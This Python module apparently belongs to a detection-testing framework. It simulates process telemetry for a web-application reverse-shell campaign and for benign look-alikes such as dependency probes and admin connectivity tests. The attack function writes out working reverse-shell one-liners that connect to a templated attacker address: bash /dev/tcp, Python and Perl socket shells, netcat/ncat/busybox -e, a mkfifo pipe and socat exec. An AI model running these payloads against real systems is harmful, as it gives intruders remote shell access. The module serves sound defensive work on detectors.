"""Reverse shells from a web application (T1059.004, T1059.006): remote code execution
in a web application makes its worker start an interactive shell wired to a connection
back to the attacker; when one form fails or drops, the attacker tries another.

Per instance: the foothold (gunicorn or node on a web host, java on the app host, so the
service account too), the attacker's address and ports, two or three attempts with
different forms (bash /dev/tcp in three spellings, Python socket with dup2 and
subprocess or pty, Perl socket, netcat or ncat or busybox nc with -e, a named pipe
through nc, socat exec in two spellings), whether the interpreters start directly from
the worker or through `sh -c`, the named pipe's path, and the timing.

Look-alikes: web applications probing their dependencies at start-up and from health
endpoints (bash /dev/tcp, nc -z, a Python socket connect) and running helper programs
through shells, and administrators testing connectivity and forwarding ports with
/dev/tcp, netcat and socat.
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    PYTHON,
    SH,
    LookalikeFamily,
    register_lookalikes,
    root_session,
    user_session,
    webshell,
)

CAMPAIGN = "web_reverse_shell"
#: The web workers an operator lands in, per host role.
_WORKERS = {"web": ("gunicorn", "node"), "app": ("java",)}
PERL = "/usr/bin/perl"
_FORMS = (
    "dev_tcp",
    "dev_tcp_exec",
    "dev_tcp_fd",
    "python_subprocess",
    "python_pty",
    "perl",
    "nc_e",
    "ncat",
    "busybox",
    "mkfifo",
    "socat",
    "socat_connect",
)
_FIFOS = ("/tmp/f", "/tmp/.p", "/dev/shm/.s", "/var/tmp/.f", "/tmp/.X1-pipe", "/dev/shm/p")


def _attempt(
    t: Timeline, instance: Instance, worker: Process, form: str, ip: str, port: int, n: int
) -> None:
    """One reverse-shell attempt: the process the worker starts (stage reverse_shell)
    and what runs under it (stage shell_session)."""
    direct = instance.chance(0.5)
    if form.startswith("dev_tcp"):
        if form == "dev_tcp":
            line, spawned = f"bash -i >& /dev/tcp/{ip}/{port} 0>&1", (BASH, "bash -i")
        elif form == "dev_tcp_exec":
            line, spawned = f"exec bash -i &>/dev/tcp/{ip}/{port} <&1", (BASH, "bash -i")
        else:
            fd = instance.pick(f"fd_{n}", (196, 200, 3, 5))
            line = f"0<&{fd};exec {fd}<>/dev/tcp/{ip}/{port}; sh <&{fd} >&{fd} 2>&{fd}"
            spawned = (SH, "sh")
        shell = webshell(t, "reverse_shell", worker, f"bash -c '{line}'")
        bash = t.run("shell_session", shell, BASH, f"bash -c {line}", after=(0.001, 0.05))
        t.run("shell_session", bash, *spawned, after=(0.001, 0.05))
    elif form in ("python_subprocess", "python_pty"):
        if form == "python_subprocess":
            code = (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                f's.connect(("{ip}",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
                'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
            )
            spawned = (SH, "/bin/sh -i")
        else:
            code = (
                f'import socket,os,pty;s=socket.socket();s.connect(("{ip}",{port}));'
                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'
            )
            spawned = (BASH, "/bin/bash")
        if direct:
            python = t.run("reverse_shell", worker, PYTHON, f"python3 -c {code}", after=(20, 240))
        else:
            wrapper = webshell(t, "reverse_shell", worker, f"python3 -c '{code}'")
            python = t.run("shell_session", wrapper, PYTHON, f"python3 -c {code}")
        t.run("shell_session", python, *spawned)
    elif form == "perl":
        code = (
            f'use Socket;$i="{ip}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
            'open(STDERR,">&S");exec("/bin/sh -i");};'
        )
        if direct:
            perl = t.run("reverse_shell", worker, PERL, f"perl -e {code}", after=(20, 240))
        else:
            wrapper = webshell(t, "reverse_shell", worker, f"perl -e '{code}'")
            perl = t.run("shell_session", wrapper, PERL, f"perl -e {code}")
        t.run("shell_session", perl, SH, "/bin/sh -i")
    elif form in ("nc_e", "ncat", "busybox"):
        program = instance.pick(f"shell_{n}", ("/bin/sh", "/bin/bash", "sh"))
        command, image = {
            "nc_e": (f"nc -e {program} {ip} {port}", "/usr/bin/nc.traditional"),
            "ncat": (f"ncat {ip} {port} -e {program}", "/usr/bin/ncat"),
            "busybox": (f"busybox nc {ip} {port} -e {program}", "/usr/bin/busybox"),
        }[form]
        shell = webshell(t, "reverse_shell", worker, command)
        t.run("shell_session", shell, image, command)
    elif form == "mkfifo":
        fifo = instance.pick(f"fifo_{n}", _FIFOS)
        interactive = instance.pick(f"fifo_shell_{n}", ("/bin/sh -i", "/bin/bash -i", "sh -i"))
        shell = webshell(
            t,
            "reverse_shell",
            worker,
            f"rm -f {fifo};mkfifo {fifo};cat {fifo}|{interactive} 2>&1|nc {ip} {port} >{fifo}",
        )
        t.run("shell_session", shell, "/usr/bin/rm", f"rm -f {fifo}")
        t.run("shell_session", shell, "/usr/bin/mkfifo", f"mkfifo {fifo}")
        t.run("shell_session", shell, "/usr/bin/cat", f"cat {fifo}")
        image = BASH if "bash" in interactive else SH
        t.run("shell_session", shell, image, interactive, after=(0.001, 0.01))
        t.run("shell_session", shell, "/usr/bin/nc.openbsd", f"nc {ip} {port}", after=(0.001, 0.01))
    else:
        if form == "socat":
            command = f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}"
            spawned = (BASH, "bash -li")
        else:
            command = f"socat tcp-connect:{ip}:{port} exec:/bin/sh,pty,stderr,setsid"
            spawned = (SH, "/bin/sh")
        shell = webshell(t, "reverse_shell", worker, command)
        socat = t.run("shell_session", shell, "/usr/bin/socat", command.replace("'", ""))
        t.run("shell_session", socat, *spawned, after=(0.01, 0.5))


@scenario(CAMPAIGN, "linux", ("reverse_shell", "shell_session"))
def web_reverse_shell(ctx: SimContext) -> Stages:
    """Two or three reverse-shell attempts from the web application's worker, minutes apart."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host", tuple(_WORKERS))
    daemon = instance.pick("worker", _WORKERS[host.role])
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "revshell", (0, 20)))
    worker = t.daemon(daemon)
    ip = instance.attacker_ip("listener_ip")
    ports = instance.sample("ports", (4444, 4443, 443, 8443, 8080, 9001, 1337, 53, 5555, 31337), 3)
    forms = instance.sample("forms", _FORMS, instance.between(2, 3))
    for n, form in enumerate(forms):
        _attempt(t, instance, worker, form, ip, ports[n], n)
        t.wait(60, 600)
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


_APP_HOSTS = tuple(h for h in LINUX_HOSTS if h.role in _WORKERS)
#: Internal dependencies the applications wait for: (address, port).
_DEPENDENCIES = (("10.1.3.4", 5432), ("10.1.2.4", 8080), ("10.1.3.4", 6379), ("10.1.0.10", 3142))


def _dependency_probes(ctx: SimContext, family: LookalikeFamily) -> None:
    """Applications check that their database, cache or API answers before serving
    (after a deploy) and from their readiness endpoints."""
    for host, moment in family.moments(2, 5, hosts=_APP_HOSTS, office=False):
        t = family.on(host, moment)
        worker = t.daemon(t.rng.choice(_WORKERS[host.role]))
        ip, port = t.rng.choice(_DEPENDENCIES)
        form = t.rng.choice(("dev_tcp", "dev_tcp_echo", "nc", "python"))
        if form == "dev_tcp":
            line = f"timeout 2 bash -c '</dev/tcp/{ip}/{port}'"
            shell = t.run("dependency_probes", worker, SH, f"sh -c {line}", after=(0, 1))
            timeout = t.run(
                "dependency_probes",
                shell,
                "/usr/bin/timeout",
                line.replace("'", ""),
                after=(0.001, 0.05),
            )
            t.run("dependency_probes", timeout, BASH, f"bash -c </dev/tcp/{ip}/{port}")
        elif form == "dev_tcp_echo":
            line = f"bash -c 'echo > /dev/tcp/{ip}/{port}' && echo ready"
            shell = t.run("dependency_probes", worker, SH, f"sh -c {line}", after=(0, 1))
            t.run("dependency_probes", shell, BASH, f"bash -c echo > /dev/tcp/{ip}/{port}")
        elif form == "nc":
            line = f"nc -z -w 2 {ip} {port}"
            shell = t.run("dependency_probes", worker, SH, f"sh -c {line}", after=(0, 1))
            t.run("dependency_probes", shell, "/usr/bin/nc.openbsd", line)
        else:
            code = f"import socket;socket.create_connection(('{ip}',{port}),2).close()"
            t.run("dependency_probes", worker, PYTHON, f"python3 -c {code}", after=(0, 1))


_HELPERS = {
    "node": (
        (
            "sh -c git -C /opt/app rev-parse --short HEAD",
            "/usr/bin/git",
            "git -C /opt/app rev-parse --short HEAD",
        ),
        (
            "sh -c python3 /opt/app/scripts/exif_strip.py /opt/app/uploads/incoming",
            PYTHON,
            "python3 /opt/app/scripts/exif_strip.py /opt/app/uploads/incoming",
        ),
        (
            "sh -c ffprobe -v quiet -print_format json -show_format /opt/app/uploads/clip.mp4",
            "/usr/bin/ffprobe",
            "ffprobe -v quiet -print_format json -show_format /opt/app/uploads/clip.mp4",
        ),
    ),
    "gunicorn": (
        (
            "sh -c /usr/bin/gpg --batch --verify /opt/app/media/export.sig",
            "/usr/bin/gpg",
            "/usr/bin/gpg --batch --verify /opt/app/media/export.sig",
        ),
        ("sh -c python3 manage.py clearsessions", PYTHON, "python3 manage.py clearsessions"),
        (
            "sh -c /usr/bin/openssl s_client -connect login.microsoftonline.com:443 -servername login.microsoftonline.com",
            "/usr/bin/openssl",
            "/usr/bin/openssl s_client -connect login.microsoftonline.com:443 -servername login.microsoftonline.com",
        ),
    ),
    "java": (
        (
            "/bin/sh /opt/app/bin/export-report.sh daily",
            BASH,
            "bash /opt/app/bin/export-report.sh daily",
        ),
        (
            "sh -c /usr/bin/pdftotext -layout /opt/app/data/inbox/statement.pdf -",
            "/usr/bin/pdftotext",
            "/usr/bin/pdftotext -layout /opt/app/data/inbox/statement.pdf -",
        ),
        (
            "sh -c perl /opt/app/bin/csv2xlsx.pl /opt/app/data/out/report.csv",
            PERL,
            "perl /opt/app/bin/csv2xlsx.pl /opt/app/data/out/report.csv",
        ),
    ),
}


def _app_helpers(ctx: SimContext, family: LookalikeFamily) -> None:
    """The applications' own helper programs, started through shells and interpreters."""
    for host, moment in family.moments(2, 5, hosts=_APP_HOSTS):
        t = family.on(host, moment)
        name = t.rng.choice(_WORKERS[host.role])
        worker = t.daemon(name)
        wrapper, image, child = t.rng.choice(_HELPERS[name])
        shell = t.run("app_helpers", worker, SH, wrapper, after=(0, 1))
        t.run("app_helpers", shell, image, child, after=(0.001, 0.2))


_TESTS = (
    ("bash -c echo > /dev/tcp/10.1.3.4/5432 && echo open", BASH, False),
    ("timeout 3 bash -c </dev/tcp/packages.microsoft.com/443", "/usr/bin/timeout", False),
    ("nc -zv 10.1.3.4 5432", "/usr/bin/nc.openbsd", False),
    ("nc -zvw3 10.1.1.5 8000", "/usr/bin/nc.openbsd", False),
    ("nc -vz github.com 443", "/usr/bin/nc.openbsd", False),
    ("socat - TCP:10.1.2.4:8080,connect-timeout=3", "/usr/bin/socat", False),
    ("socat TCP-LISTEN:9229,bind=127.0.0.1,fork TCP:127.0.0.1:9230", "/usr/bin/socat", True),
    ("nc -zv 10.1.4.4 22", "/usr/bin/nc.openbsd", False),
    ("python3 -c import socket;print(socket.getaddrinfo('github.com',443))", PYTHON, False),
)


def _admin_network_tests(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators test connectivity and forward a debugger port with socat."""
    for host, moment in family.moments(2, 3):
        t = family.on(host, moment)
        user = t.rng.choice(host.admin_users)
        chosen = t.rng.sample(_TESTS, t.rng.randint(1, 3))
        if any(as_root for _, _, as_root in chosen):
            shell = root_session(t, user, stage="admin_network_tests")
        else:
            shell = user_session(t, user, "admin_network_tests")
        for command, image, _ in chosen:
            t.run("admin_network_tests", shell, image, command, after=(5, 120))


_FAMILIES = {
    "dependency_probes": _dependency_probes,
    "app_helpers": _app_helpers,
    "admin_network_tests": _admin_network_tests,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
